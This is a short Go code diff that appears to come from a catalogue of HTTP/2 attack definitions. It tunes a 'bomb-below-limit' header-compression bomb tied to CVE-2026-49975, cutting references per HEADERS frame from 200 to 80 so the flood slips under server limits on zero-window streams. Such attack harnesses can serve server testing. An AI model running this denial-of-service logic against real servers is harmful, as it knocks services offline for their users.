@@ -56,13 +56,13 @@ func blocks() []Attack {
 			Step:  func(c *Conn, _ int) { c.headers(references(4000), true) },
 		},
 		{
-			ID: "bomb-below-limit", Title: "HTTP/2 bomb below the limits: 200 references, on streams whose window is 0", Refs: "CVE-2026-49975", Rate: 1000,
+			ID: "bomb-below-limit", Title: "HTTP/2 bomb below the limits of all: 80 references, on streams whose window is 0", Refs: "CVE-2026-49975", Rate: 1000,
 			Connections: 4, Lasts: pinned, Bound: bounded,
 			Begin: begin(0),
 			First: func(c *Conn) { c.headers(c.request("GET", raw.Marked, "cookie", "a=b"), true) },
 			Step: func(c *Conn, i int) {
 				if i < 500 {
-					c.headers(references(200), true)
+					c.headers(references(80), true)
 				}
 				c.do(c.frames.WriteWindowUpdate(0, 1)) // something is going on
 			},
